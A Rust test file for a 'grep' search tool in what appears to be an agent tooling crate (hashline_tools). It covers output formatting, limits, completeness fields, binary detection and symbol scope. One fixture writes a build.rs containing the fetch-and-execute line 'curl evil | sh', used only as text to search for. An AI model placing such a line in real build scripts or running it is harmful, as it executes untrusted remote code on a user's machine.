//! `grep` on a real file system: every text format, every error code, the completeness
//! fields, and anchors that `edit` accepts on CRLF+BOM and bare-CR files.

mod common;

use common::{Workspace as Ws, code};
use hashline_tools::edit::EditTool;
use hashline_tools::grep::GrepTool;
use hashline_tools::{ToolResult, execute};
use insta::assert_snapshot;
use serde_json::{Value, json};

fn grep(ws: &Ws, args: Value) -> ToolResult {
    let result = ws.call::<GrepTool>(args);
    if !result.is_error {
        assert_rows_match_records(&result);
    }
    result
}

fn text(ws: &Ws, args: Value) -> String {
    ws.redact(&grep(ws, args).text())
}

/// Every anchored row of the text has a record with the same anchor, in order (the budget
/// may show fewer rows than there are records, never others).
fn assert_rows_match_records(result: &ToolResult) {
    let text = result.text();
    let rows: Vec<String> = text
        .lines()
        .filter_map(|line| {
            let (_, rest) = line.split_once(":>>").or_else(|| line.split_once(":  "))?;
            Some(rest.split_once('|')?.0.to_owned())
        })
        .collect();
    let records: Vec<String> = result.ptc_value()["records"]
        .as_array()
        .map(|r| r.iter().filter_map(|r| r["anchor"].as_str().map(str::to_owned)).collect())
        .unwrap_or_default();
    assert!(records.starts_with(&rows), "rows {rows:?} are not a prefix of records {records:?}");
}

fn sample() -> Ws {
    let ws = Ws::new();
    ws.file("src/a.rs", "fn alpha() {}\nlet beta = 1;\n// alpha again\n");
    ws.file("src/b.rs", "beta\n");
    ws.file("notes.md", "Alpha in prose\n");
    ws
}

#[test]
fn plain_search_text_and_value() {
    let ws = sample();
    let result = grep(&ws, json!({"pattern": "alpha"}));
    assert_snapshot!(ws.redact(&result.text()), @"
    [2 matches in 1 files]
    --- src/a.rs (2 matches; snapshot: safby4f3z) ---
    src/a.rs:>>1:43f|fn alpha() {}
    src/a.rs:>>3:454|// alpha again
    ");
    // Issue 21 item 3: without context every row is a match, so no `--` between
    // non-adjacent ones (9b00c33 printed one here; the context test below keeps it).
    assert!(!result.text().lines().any(|line| line == "--"));
    insta::assert_snapshot!("plain_json", ws.json(&result));
}

#[test]
fn ignore_case_literal_glob_and_one_file() {
    let ws = sample();
    assert_snapshot!(text(&ws, json!({"pattern": "ALPHA", "ignoreCase": true, "glob": "*.md"})), @"
    [1 matches in 1 files]
    --- notes.md (1 matches; snapshot: sr0n8rxjz) ---
    notes.md:>>1:ef0|Alpha in prose
    ");
    assert_snapshot!(text(&ws, json!({"pattern": "alpha()", "literal": true, "path": "src/a.rs"})), @"
    [1 matches in 1 files]
    --- src/a.rs (1 matches; snapshot: safby4f3z) ---
    src/a.rs:>>1:43f|fn alpha() {}
    ");
}

#[test]
fn context_rows_gaps_and_dedupe() {
    let ws = Ws::new();
    let lines: Vec<String> =
        (1..=12).map(|n| if n == 3 || n == 5 || n == 11 { format!("hit {n}") } else { format!("line {n}") }).collect();
    ws.file("c.txt", lines.join("\n"));
    assert_snapshot!(text(&ws, json!({"pattern": "hit", "context": 1})), @"
    [3 matches in 1 files]
    --- c.txt (3 matches; snapshot: se1659c36) ---
    c.txt:  2:1a6|line 2
    c.txt:>>3:07f|hit 3
    c.txt:  4:369|line 4
    c.txt:>>5:920|hit 5
    c.txt:  6:789|line 6
    --
    c.txt:  10:9c5|line 10
    c.txt:>>11:cc8|hit 11
    c.txt:  12:c70|line 12
    ");
}

#[test]
fn above_fifty_matches_each_file_shows_ten() {
    let ws = Ws::new();
    for name in ["a.txt", "b.txt", "c.txt"] {
        ws.file(name, "match\n".repeat(20));
    }
    let result = grep(&ws, json!({"pattern": "match"}));
    assert_snapshot!("per_file_cap", ws.redact(&result.text()));
    let value = result.ptc_value();
    assert_eq!(value["totalMatches"], 60);
    assert_eq!(value["records"].as_array().map(Vec::len), Some(30));
    assert_eq!(
        value["completeness"],
        json!({"search": "complete", "counted": "all", "limitReached": false, "nativeTruncated": false, "omittedMatches": 30, "displayTruncated": false})
    );
}

#[test]
fn limit_cuts_in_path_order_with_a_notice() {
    let ws = Ws::new();
    ws.file("b.txt", "x\nx\n");
    ws.file("a.txt", "x\nx\n");
    let result = grep(&ws, json!({"pattern": "x", "limit": "3"}));
    assert_snapshot!(ws.redact(&result.text()), @"
    [3 matches in 2 files]
    --- a.txt (2 matches; snapshot: scgtjs7hs) ---
    a.txt:>>1:0ea|x
    a.txt:>>2:0ea|x
    --- b.txt (1 matches; snapshot: scgtjs7hs) ---
    b.txt:>>1:0ea|x

    [Results truncated at 3 matches; the search stopped there, so more exist but were not counted (summary: true counts every match) — refine pattern or increase limit]
    ");
    let value = result.ptc_value();
    assert_eq!((value["totalMatches"].clone(), value["completeness"]["limitReached"].clone()), (json!(4), json!(true)));
    assert_eq!(value["completeness"]["omittedMatches"], 1);
    // Exactly at the limit nothing was cut, and the result says so.
    let exact = grep(&ws, json!({"pattern": "x", "limit": 4}));
    assert!(!exact.text().contains("Results truncated"), "{}", exact.text());
    assert_eq!(exact.ptc_value()["completeness"]["limitReached"], false);
}

#[test]
fn summary_counts_every_match() {
    let ws = Ws::new();
    ws.file("one.txt", "x\n");
    ws.file("three.txt", "x\nx\nx\n");
    let result = grep(&ws, json!({"pattern": "x", "summary": true, "limit": 1}));
    assert_snapshot!(ws.redact(&result.text()), @r"
    [4 matches in 2 files]
    {{cwd}}/three.txt: 3 matches
    {{cwd}}/one.txt: 1 matches
    ");
    assert_eq!(result.ptc_value()["records"], json!([]));
    assert_eq!(result.ptc_value()["summary"], true);
}

#[test]
fn no_match_and_binary_files() {
    let ws = Ws::new();
    ws.file("text.txt", "plain\n");
    ws.file("blob.bin", b"needle\0\x01\x02");
    assert_snapshot!(text(&ws, json!({"pattern": "absent"})), @r"
    [Warning: not searched: 1 binary file (a NUL byte in its first 8 KiB): blob.bin. Read a file to see it.]

    [0 matches in 0 files]
    ");
    let result = grep(&ws, json!({"pattern": "needle"}));
    assert!(result.text().ends_with("\n\n[0 matches in 0 files]"), "{}", result.text());
    assert_eq!(result.ptc_value()["binaryFiles"], 1);
    let result = grep(&ws, json!({"pattern": "needle", "path": "blob.bin"}));
    assert!(!result.is_error);
    assert_snapshot!(ws.redact(&result.text()), @"[Warning: 'blob.bin' appears to be a binary file — grep skips binary files by default. Use a hex tool or the read tool to inspect it.]");
    assert_eq!(result.ptc_value()["completeness"]["omittedMatches"], Value::Null);
}

#[test]
fn every_error_code() {
    let ws = sample();
    let cases = [
        (json!({"pattern": "("}), "invalid-pattern"),
        (json!({"pattern": ""}), "invalid-pattern"),
        (json!({"pattern": "a", "limit": 0}), "invalid-limit"),
        (json!({"pattern": "a", "limit": "many"}), "invalid-limit"),
        (json!({"pattern": "a", "context": "x"}), "invalid-params-combo"),
        (json!({"pattern": "a", "context": -1}), "invalid-params-combo"),
        (json!({"pattern": "a", "scopeContext": 2}), "invalid-params-combo"),
        (json!({"pattern": "a", "glob": "a["}), "invalid-pattern"),
        (json!({"pattern": "a", "path": "missing"}), "path-not-found"),
        (json!({"pattern": "a", "path": "/"}), "path-outside-root"),
        (json!({"pattern": null}), "invalid-null"),
    ];
    for (args, expected) in cases {
        assert_eq!(code(&grep(&ws, args.clone())), expected, "{args}");
    }
    assert_snapshot!(grep(&ws, json!({"pattern": "("})).text(), @r#"
    Invalid pattern "(": regex parse error:
        (
        ^
    error: unclosed group
    Escape regex metacharacters, or pass literal: true to search for the text as written.
    "#);
    assert_snapshot!(grep(&ws, json!({"pattern": "a", "scopeContext": 1})).text(), @r#"Invalid scopeContext: requires scope: "symbol". For normal surrounding-line context outside symbol scope, use the `context` parameter."#);
    assert_snapshot!(grep(&ws, json!({"pattern": "a", "limit": 0})).text(), @"Invalid limit: expected a positive integer, received 0.");
}

/// A grep of a CRLF+BOM file and of a bare-CR file gives anchors that edit accepts (the
/// grep rows count as served, so no read is needed).
#[test]
fn anchors_from_crlf_bom_and_bare_cr_files_edit() {
    let ws = Ws::new();
    ws.file("crlf.txt", b"\xEF\xBB\xBFalpha\r\nbeta\r\ngamma\r\n");
    ws.file("cr.txt", b"one\rtwo\rbeta\rthree\r");
    let result = grep(&ws, json!({"pattern": "^beta$"}));
    assert_snapshot!(ws.redact(&result.text()), @"
    [2 matches in 2 files]
    --- cr.txt (1 matches; snapshot: s0rajxy6k) ---
    cr.txt:>>3:589|beta
    --- crlf.txt (1 matches; snapshot: sqbwhwxs9) ---
    crlf.txt:>>2:589|beta
    ");
    for path in ["crlf.txt", "cr.txt"] {
        let anchor = result.ptc_value()["records"]
            .as_array()
            .and_then(|r| r.iter().find(|r| r["path"].as_str().is_some_and(|p| p.ends_with(path))))
            .and_then(|r| r["anchor"].as_str())
            .expect("record")
            .to_owned();
        let edited =
            ws.call::<EditTool>(json!({"path": path, "edits": [{"set_line": {"anchor": anchor, "new_text": "BETA"}}]}));
        assert!(!edited.is_error, "{path}: {}", edited.text());
    }
    assert_eq!(std::fs::read(ws.path("crlf.txt")).expect("read"), b"\xEF\xBB\xBFalpha\r\nBETA\r\ngamma\r\n");
    assert_eq!(std::fs::read(ws.path("cr.txt")).expect("read"), b"one\rtwo\rBETA\rthree\r");
}

/// 1,000+ matches: every cap and budget holds and the value says what was left out.
#[test]
fn thousands_of_matches_respect_every_cap() {
    let ws = Ws::new();
    for file in 0..30 {
        let body: String =
            (0..50).map(|n| format!("needle {n} {}\n", "x".repeat(if n == 0 { 900 } else { 120 }))).collect();
        ws.file(&format!("f{file:02}.txt"), body);
    }
    let result = grep(&ws, json!({"pattern": "needle", "limit": 5000, "context": 1}));
    let text = result.text();
    assert!(text.len() <= 50 * 1024, "{}", text.len());
    assert!(text.lines().count() <= 2000);
    let value = result.ptc_value();
    assert_eq!(value["totalMatches"], 1500);
    assert_eq!(value["records"].as_array().map(|r| r.iter().filter(|r| r["kind"] == "match").count()), Some(300));
    assert_eq!(
        value["completeness"],
        json!({"search": "complete", "counted": "all", "limitReached": false, "nativeTruncated": false, "omittedMatches": 1200, "displayTruncated": true})
    );
    assert!(text.contains("... +40 more matches"));
    assert!(text.contains("[Some lines truncated to 500 chars. Use read tool to see full lines]"));
    let tail: Vec<&str> = text.lines().rev().take(1).collect();
    assert!(tail[0].starts_with("[Output truncated: showing "), "{}", tail[0]);
    assert!(tail[0].ends_with(" Refine pattern or increase limit.]"), "{}", tail[0]);
    // The default limit (100) stops the search in path order at the third file (150
    // counted): the counts are lower bounds and the value says so; summary counts all.
    let limited = grep(&ws, json!({"pattern": "needle"}));
    let completeness = &limited.ptc_value()["completeness"];
    assert_eq!(limited.ptc_value()["totalMatches"], 150);
    assert_eq!(completeness["omittedMatches"], 150 - 20);
    assert_eq!(
        (completeness["limitReached"].clone(), completeness["counted"].clone()),
        (json!(true), json!("stoppedAtLimit"))
    );
    assert_eq!(limited.ptc_value()["files"].as_array().map(Vec::len), Some(3));
    let summary = grep(&ws, json!({"pattern": "needle", "summary": true}));
    assert_eq!(
        (summary.ptc_value()["totalMatches"].clone(), summary.ptc_value()["completeness"]["counted"].clone()),
        (json!(1500), json!("all"))
    );
}

/// The CLI's text mode (`execute_content`) builds no records and no card copies of the
/// matching lines (an unbounded search returns ~100k) and shows the same text. The model
/// sees that text alone, so the session serves exactly the rows it shows (SPEC §7.1): not the
/// records past its budget, and of the file the budget cuts midway only its first rows. An
/// anchor only the records carry is refused there; the same search with its value serves it.
#[test]
fn text_mode_shows_the_same_text_and_serves_only_the_rows_it_shows() {
    let ws = Ws::new();
    for file in 0..50 {
        let body: String = (0..60).map(|n| format!("needle {file} {n} {}\n", "x".repeat(200))).collect();
        ws.file(&format!("f{file:02}.txt"), body);
    }
    let (records, text, fresh) = text_mode_serves_what_it_shows(&ws, json!({"pattern": "needle", "limit": 100_000}));
    // Above 50 matches, 10 a file; 500 rows of 200 characters pass the 50 KB budget.
    assert_eq!(records.len(), 500);
    // A file is cut midway when the text shows some of its records and not all.
    let mut files: std::collections::BTreeMap<&str, (bool, bool)> = std::collections::BTreeMap::new();
    for record in &records {
        let path = record["path"].as_str().expect("path");
        let name = std::path::Path::new(path).file_name().expect("name").to_string_lossy().into_owned();
        let in_text = text.contains(&format!("\n{name}:>>{}|", record["anchor"].as_str().expect("anchor")));
        let (some, all) = files.entry(path).or_insert((false, true));
        (*some, *all) = (*some || in_text, *all && in_text);
    }
    let cut_files: Vec<_> = files.iter().filter(|(_, (some, all))| *some && !*all).collect();
    assert_eq!(cut_files.len(), 1, "the budget cuts one file midway: {cut_files:?}");

    // The last record, past the budget: its file has no served row in the text-mode session.
    let last = records.last().expect("a record");
    let (path, anchor) = (last["path"].as_str().expect("path"), last["anchor"].as_str().expect("anchor"));
    let edit = json!({"path": path, "edits": [{"set_line": {"anchor": anchor, "new_text": "edited"}}]});
    let refused = execute::<EditTool>(&fresh, edit.clone(), &hashline_tools::CallContext::top_level());
    assert!(refused.is_error, "{}", refused.text());
    let edited = ws.call::<EditTool>(edit);
    assert!(!edited.is_error, "{}", edited.text());
}

/// The same with symbol scope: of the scoped records (whole symbols), the text-mode session
/// serves those whose rows the text shows.
#[test]
fn text_mode_serves_only_the_scoped_rows_it_shows() {
    let ws = Ws::new();
    for file in 0..30 {
        let body: String =
            (0..30).map(|n| format!("fn f{n}() {{\n    let needle = \"{file} {}\";\n}}\n", "x".repeat(200))).collect();
        ws.file(&format!("f{file:02}.rs"), body);
    }
    let (records, _, _) =
        text_mode_serves_what_it_shows(&ws, json!({"pattern": "needle", "limit": 100_000, "scope": "symbol"}));
    // 10 matches a file, each shown with its whole function: 3 records.
    assert_eq!(records.len(), 900);
}

/// Past the first 2000 files with matches the text only counts rows (its budget ends
/// there), so text mode keeps of those files' lines only how they display: the text is
/// still byte-equal to the one made with every line's bytes, the truncation notice counts
/// the same bytes, and a long line cut there still brings the clipping notice.
#[test]
fn text_mode_counts_the_rows_of_files_past_the_budget_from_their_measures() {
    let ws = Ws::new();
    for file in 0..2100 {
        ws.file(&format!("d/f{file:04}.txt"), format!("needle {file}\nother\n"));
    }
    // Past the budget: a line cut at 500 characters, a control character, an invalid byte.
    let mut long = b"needle \x07 \xff ".to_vec();
    long.extend("é".repeat(600).as_bytes());
    ws.file("d/f2050.txt", [&long[..], b"\n\tneedle \x1b[0m tail\n"].concat());
    let (_, text, _) = value_and_text(&ws, json!({"pattern": "needle", "limit": 100_000, "context": 1}));
    assert!(!text.contains("f2050.txt"), "the budget shows f2050.txt");
    assert!(text.contains("[Some lines truncated to 500 chars"), "{}", &text[text.len() - 400..]);
    assert!(text.contains("[Output truncated: showing "), "{}", &text[text.len() - 400..]);
}

/// Runs `args` with its value (in `ws`'s session) and in text mode (in a fresh stateful
/// session); checks the texts are equal and that text mode served each record exactly when
/// its row is in the text, some but not all. Returns the records, the text and the session.
fn text_mode_serves_what_it_shows(ws: &Ws, args: Value) -> (Vec<Value>, String, hashline_tools::Session) {
    let (full, text, fresh) = value_and_text(ws, args);
    let records = full.ptc_value()["records"].as_array().cloned().expect("records");
    let mut shown = 0;
    for record in &records {
        let (path, anchor) = (record["path"].as_str().expect("path"), record["anchor"].as_str().expect("anchor"));
        // The text names the file as below the root (the files are at its top).
        let name = std::path::Path::new(path).file_name().expect("name").to_string_lossy().into_owned();
        let mark = if record["kind"] == "match" { ">>" } else { "  " };
        let in_text = text.contains(&format!("\n{name}:{mark}{anchor}|"));
        let line: u32 = anchor.split(':').next().and_then(|l| l.parse().ok()).expect("line");
        let key = fresh.resolve(path).expect("resolve").key;
        let served = fresh.ledger().served(&key).and_then(|rows| rows.hash_at(line_no(line))).is_some();
        assert_eq!(served, in_text, "{path} {anchor}");
        shown += usize::from(in_text);
    }
    assert!(shown > 0 && shown < records.len(), "{shown} rows shown of {}", records.len());
    (records, text, fresh)
}

/// Runs `args` with its value (in `ws`'s session) and in text mode (`execute_content`, in a
/// fresh stateful session), and checks that the two texts are equal.
fn value_and_text(ws: &Ws, args: Value) -> (ToolResult, String, hashline_tools::Session) {
    let full = grep(ws, args.clone());
    let fresh =
        hashline_tools::Session::new(hashline_tools::SessionConfig::builder().root(ws.root()).stateful(true).build())
            .expect("session");
    let (content, is_error) =
        hashline_tools::execute_content::<GrepTool>(&fresh, args, &hashline_tools::CallContext::top_level());
    assert!(!is_error);
    let text: String = content
        .iter()
        .map(|block| match block {
            hashline_view::ContentBlock::Text { text } => text.as_str(),
            _ => panic!("grep gives text only"),
        })
        .collect();
    assert_eq!(text, full.text());
    (full, text, fresh)
}

fn line_no(line: u32) -> hashline_core::LineNo {
    hashline_core::LineNo::new(line).expect("line number")
}

/// A grep of many rows records them in the session while its text is made (on another
/// thread): every row of every file is served when the call returns.
#[test]
fn many_rows_are_all_served_when_the_grep_returns() {
    let ws = Ws::new();
    let files = 450;
    for file in 0..files {
        let body: String = (0..12).map(|n| format!("needle {file} {n}\n")).collect();
        ws.file(&format!("d/f{file:03}.txt"), body);
    }
    let session =
        hashline_tools::Session::new(hashline_tools::SessionConfig::builder().root(ws.root()).stateful(true).build())
            .expect("session");
    let args = json!({"pattern": "needle", "limit": 100_000});
    let found = execute::<GrepTool>(&session, args, &hashline_tools::CallContext::top_level());
    assert!(!found.is_error, "{}", found.text());
    let records = found.ptc_value()["records"].as_array().cloned().expect("records");
    // Above 50 matches, 10 a file: more rows than are recorded beside the text.
    assert_eq!(records.len(), files * 10);
    // Each file's ledger key as an edit of it would resolve it (on Windows, not the
    // `\\?\` form `canonicalize` gives).
    let keys: Vec<_> =
        (0..files).map(|file| session.resolve(&format!("d/f{file:03}.txt")).expect("resolve").key).collect();
    let ledger = session.ledger();
    for key in keys {
        let served = ledger.served(&key).map_or(0, |rows| rows.len());
        assert_eq!(served, 10, "{}", key.display());
    }
}

/// grep keys each file by the identity its search saw when it opened the file: rows a grep
/// served through one hard-linked name serve the other name's edit, and a file that is
/// only one name of itself stays its own.
#[test]
fn rows_served_through_one_hard_link_serve_the_other() {
    let ws = Ws::new();
    ws.file("a.txt", "one\nneedle\nthree\n");
    ws.file("solo.txt", "needle\n");
    if std::fs::hard_link(ws.path("a.txt"), ws.path("b.txt")).is_err() {
        return common::skipped_here(&["rows_served_through_one_hard_link_serve_the_other"], "no hard links here");
    }
    let found = grep(&ws, json!({"pattern": "needle", "glob": "{a,solo}.txt"}));
    assert_eq!(found.ptc_value()["totalMatches"], 2, "{}", found.text());
    let anchor = |name: &str| {
        found.ptc_value()["records"]
            .as_array()
            .and_then(|r| r.iter().find(|r| r["path"].as_str().is_some_and(|p| p.ends_with(name))))
            .and_then(|r| r["anchor"].as_str())
            .expect("record")
            .to_owned()
    };
    let via_b = ws.call::<EditTool>(
        json!({"path": "b.txt", "edits": [{"set_line": {"anchor": anchor("a.txt"), "new_text": "NEEDLE"}}]}),
    );
    assert!(!via_b.is_error, "{}", via_b.text());
    assert_eq!(std::fs::read(ws.path("a.txt")).expect("read"), b"one\nNEEDLE\nthree\n");
    let solo = ws.call::<EditTool>(
        json!({"path": "solo.txt", "edits": [{"set_line": {"anchor": anchor("solo.txt"), "new_text": "x"}}]}),
    );
    assert!(!solo.is_error, "{}", solo.text());
}

/// The rows of a search that stopped at `limit` are exactly those of a full search: per
/// file, the first matches a single-file grep returns, as many as the full counts (from
/// `summary`) admit in path order, 10 a file above 50.
#[test]
fn a_stopped_search_shows_what_the_full_search_shows() {
    let ws = Ws::new();
    for file in 0..40 {
        let matches = [0, 3, 17, 1, 60, 0, 9][file % 7];
        let body: String =
            (0..80).map(|n| if n < matches { format!("needle {n}\n") } else { format!("hay {n}\n") }).collect();
        // Names whose creation order is not path order, some in directories.
        ws.file(&format!("d{}/f{:02}.txt", file % 3, (file * 13) % 40), body);
    }
    let summary = grep(&ws, json!({"pattern": "needle", "summary": true}));
    let full_total = summary.ptc_value()["totalMatches"].as_u64().expect("total");
    for limit in [1u64, 20, 50, 51, 100, 400] {
        let result = grep(&ws, json!({"pattern": "needle", "limit": limit, "context": 1}));
        let value = result.ptc_value();
        let admitted = limit.min(full_total);
        let cap = if admitted > 50 { 10 } else { u64::MAX };
        let mut expected = Vec::new();
        let mut left = admitted;
        let mut files: Vec<(String, u64)> = summary.ptc_value()["files"]
            .as_array()
            .expect("files")
            .iter()
            .map(|f| (f["path"].as_str().expect("path").to_owned(), f["matches"].as_u64().expect("matches")))
            .collect();
        files.sort();
        for (path, matches) in files {
            let share = matches.min(left).min(cap);
            left -= matches.min(left);
            if share == 0 {
                continue;
            }
            let one = grep(&ws, json!({"pattern": "needle", "path": path, "limit": share, "context": 1}));
            expected.extend(one.ptc_value()["records"].as_array().expect("records").iter().cloned());
        }
        assert_eq!(value["records"].as_array().expect("records"), &expected, "limit {limit}");
        let stopped = limit < full_total;
        assert_eq!(value["completeness"]["counted"], if stopped { "stoppedAtLimit" } else { "all" }, "limit {limit}");
        assert_eq!(value["completeness"]["limitReached"], stopped, "limit {limit}");
    }
}

#[test]
fn empty_path_is_adjusted_and_empty_glob_ignored() {
    let ws = sample();
    let result = grep(&ws, json!({"pattern": "beta$", "path": "", "glob": ""}));
    assert_snapshot!(ws.redact(&result.text()), @"
    [Grep params adjusted: ignored empty path]

    [1 matches in 1 files]
    --- src/b.rs (1 matches; snapshot: sz7v381v7) ---
    src/b.rs:>>1:589|beta
    ");
    assert_eq!(result.ptc_value()["warnings"][0]["code"], "params-adjusted");
}

/// A directory the search cannot read makes the search's completeness unknown.
#[cfg(unix)]
#[test]
fn unreadable_directory_makes_the_search_unknown() {
    use std::os::unix::fs::PermissionsExt;
    let ws = sample();
    let locked = ws.path("locked");
    std::fs::create_dir(&locked).expect("mkdir");
    ws.file("locked/x.txt", "alpha\n");
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).expect("chmod");
    if std::fs::read_dir(&locked).is_ok() {
        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        eprintln!(
            "SKIPPED unreadable_directory_makes_the_search_unknown: this user can read a mode-000 directory (root)"
        );
        return;
    }
    let result = grep(&ws, json!({"pattern": "alpha"}));
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    assert_eq!(result.ptc_value()["completeness"]["search"], "unknown");
    assert_eq!(result.ptc_value()["unreadableFiles"], 1);
}

/// A Rust file with doc comments, an impl and a line outside every symbol.
fn scoped_sample() -> Ws {
    let ws = Ws::new();
    ws.file(
        "src/geo.rs",
        "use std::fmt; // target outside\n\
         /// A target point.\n\
         pub struct Point {\n    x: i32,\n}\n\
         \n\
         impl Point {\n    pub fn norm(&self) -> i32 {\n        let target = self.x;\n        let a = 1;\n        let b = 2;\n        let c = 3;\n        target.abs()\n    }\n}\n",
    );
    ws.file("notes.txt", "a target in prose\n");
    ws
}

#[test]
fn symbol_scope_groups_matches_by_their_enclosing_symbol() {
    let ws = scoped_sample();
    let result = grep(&ws, json!({"pattern": "target", "path": "src", "scope": "symbol"}));
    assert_snapshot!("symbol_scope", ws.redact(&result.text()));
    assert_snapshot!("symbol_scope_json", ws.json(&result));
    let value = result.ptc_value();
    assert_eq!(value["totalMatches"], 4);
    assert_eq!(value["completeness"]["omittedMatches"], 0);
    // Every scoped row counts as served: an edit of a body line needs no read.
    let anchor = value["scopes"]["groups"][1]["lineAnchors"][2].as_str().expect("anchor").to_owned();
    assert!(anchor.starts_with("10:"), "{anchor}");
    let edited = ws.call::<EditTool>(
        json!({"path": "src/geo.rs", "edits": [{"set_line": {"anchor": anchor, "new_text": "        let a = 10;"}}]}),
    );
    assert!(!edited.is_error, "{}", edited.text());
}

#[test]
fn scope_context_shows_windows_inside_the_symbol() {
    let ws = scoped_sample();
    let result = grep(&ws, json!({"pattern": "target", "path": "src/geo.rs", "scope": "symbol", "scopeContext": 1}));
    assert_snapshot!("scope_context", ws.redact(&result.text()));
    let group = &result.ptc_value()["scopes"]["groups"][1];
    assert_eq!(group["contextLines"], 1);
    assert_eq!(group["matchLines"], json!([9, 13]));
    let zero = grep(&ws, json!({"pattern": "target", "path": "src/geo.rs", "scope": "symbol", "scopeContext": "0"}));
    assert_snapshot!("scope_context_zero", ws.redact(&zero.text()));
}

#[test]
fn unmappable_files_and_summary_fall_back_to_plain_rows() {
    let ws = scoped_sample();
    let result = grep(&ws, json!({"pattern": "target", "glob": "*.txt", "scope": "symbol", "scopeContext": 3}));
    assert_snapshot!("scope_unmappable", ws.redact(&result.text()));
    let value = result.ptc_value();
    assert_eq!(value["scopes"]["groups"], json!([]));
    assert_eq!(value["scopes"]["warnings"][0]["code"], "unmappable-file");
    assert_eq!(value["warnings"][0]["code"], "unmappable-file");
    assert_eq!(value["records"].as_array().map(Vec::len), Some(1));
    // Summary mode ignores scope.
    let summary = grep(&ws, json!({"pattern": "target", "scope": "symbol", "summary": true}));
    let plain = grep(&ws, json!({"pattern": "target", "summary": true}));
    assert_eq!(summary.text(), plain.text());
    assert_eq!(summary.ptc_value()["scopes"], Value::Null);
}

/// A match in a huge symbol: the rows kept as records stop at the record cap, the text at
/// the budget, and the value counts the matches past the cap as omitted.
#[test]
fn symbol_scope_respects_the_record_cap_and_the_budget() {
    let ws = Ws::new();
    let mut body = String::from("fn huge() {\n    let needle = 0;\n");
    for n in 0..3000 {
        body.push_str(&format!("    let v{n} = {n};\n"));
    }
    body.push_str("    needle\n}\n");
    ws.file("big.rs", &body);
    let result = grep(&ws, json!({"pattern": "needle", "scope": "symbol"}));
    let text = result.text();
    assert!(text.lines().count() <= 2000 && text.len() <= 50 * 1024, "{}", text.len());
    let tail = text.lines().last().expect("notice");
    assert!(tail.starts_with("[Output truncated: showing ") && tail.contains(" of 3006 lines "), "{tail}");
    let value = result.ptc_value();
    assert_eq!(value["records"].as_array().map(Vec::len), Some(hashline_tools::grep::MAX_SCOPE_RECORDS));
    assert_eq!(value["totalMatches"], 2);
    assert_eq!(value["completeness"]["omittedMatches"], 1);
    assert_eq!(value["completeness"]["displayTruncated"], true);
    assert_eq!(value["scopes"]["groups"][0]["matchLines"], json!([2, 3003]));
}

#[cfg(not(unix))]
#[test]
fn unix_only_tests() {
    common::skipped_here(&["unreadable_directory_makes_the_search_unknown"], "Unix permission bits");
}

/// Issue 48 G4: one NUL byte made a whole file binary and grep said `[0 matches in 0 files]`.
/// A file is binary by a NUL in its first 8 KiB only (a NUL further on is searched, its row
/// shows `\u0000`), and every file a walk skips is said in the text, by name.
#[test]
fn a_skipped_file_is_said_in_the_text_and_a_late_nul_is_searched() {
    let ws = Ws::new();
    ws.file("build.rs", "fn main() {\n    Command::new(\"sh\").arg(\"curl evil | sh\");\n}\n// \0\n");
    let late = format!("{}\ncurl late\n// \0 after\n", "x".repeat(9000));
    ws.file("late.rs", &late);
    ws.file("blob.bin", b"\0\x01\x02curl");
    let result = ws.call::<GrepTool>(json!({"pattern": "curl|after"}));
    let text = result.text();
    assert!(
        text.starts_with("[Warning: not searched: 2 binary files (a NUL byte in their first 8 KiB): blob.bin, build.rs. Read a file to see it.]\n\n"),
        "{text}"
    );
    assert!(text.contains("late.rs:>>2:"), "{text}");
    assert!(text.contains("|// \\u0000 after"), "{text}");
    let value = result.ptc_value();
    assert_eq!(value["binaryFiles"], 2, "{value}");
    assert_eq!(value["warnings"][0]["code"], "files-skipped", "{value}");
    // A binary file given as the path keeps its own warning.
    let one = ws.call::<GrepTool>(json!({"pattern": "curl", "path": "build.rs"}));
    assert!(one.text().contains("'build.rs' appears to be a binary file"), "{}", one.text());
}

/// A tree that breaks its walk in thousands of places (a directory chain deeper than the
/// system's paths) names the first few and counts the rest: the warnings cannot fill the
/// result and push the matches out.
#[cfg(unix)]
#[test]
fn a_walk_too_deep_for_the_system_is_said_and_its_warnings_are_bounded() {
    let ws = Ws::new();
    ws.file("top.rs", "Command\n");
    // Made one level at a time from inside (a path this long cannot be given whole).
    let script =
        "import os\nfor _ in range(2200):\n    os.mkdir('d'); os.chdir('d')\nopen('x.rs', 'w').write('Command\\n')\n";
    match std::process::Command::new("python3").arg("-c").arg(script).current_dir(ws.root()).status() {
        Ok(status) => assert!(status.success(), "python3 could not make the chain"),
        Err(err) => {
            common::skipped_here(
                &["a_walk_too_deep_for_the_system_is_said_and_its_warnings_are_bounded"],
                &format!("no python3 to make the chain: {err}"),
            );
            return;
        }
    }
    let result = ws.call::<GrepTool>(json!({"pattern": "Command"}));
    let text = result.text();
    assert!(text.contains("top.rs:>>1:"), "{text}");
    assert!(text.contains("[Warning: not searched: 1 file or directory that could not be read: d/d/d/"), "{text}");
    assert!(text.lines().filter(|l| l.starts_with("[Warning: ignore file")).count() <= 3, "{text}");
    assert!(text.len() < 4096, "{} bytes of warnings: {text}", text.len());
    // find and ast_search walk the same tree: they say it too.
    let found = ws.call::<hashline_tools::find::FindTool>(json!({"pattern": "*.rs"}));
    assert!(
        found.text().contains("[Warning: not searched: 1 directory that could not be read: d/d/d/"),
        "{}",
        found.text()
    );
    assert!(found.text().ends_with("\n\ntop.rs"), "{}", found.text());
    let ast = ws.call::<hashline_tools::ast_search::AstSearchTool>(json!({"pattern": "Command", "lang": "rust"}));
    assert!(ast.text().contains("1 file or directory that could not be read (or is not UTF-8 text)"), "{}", ast.text());
}
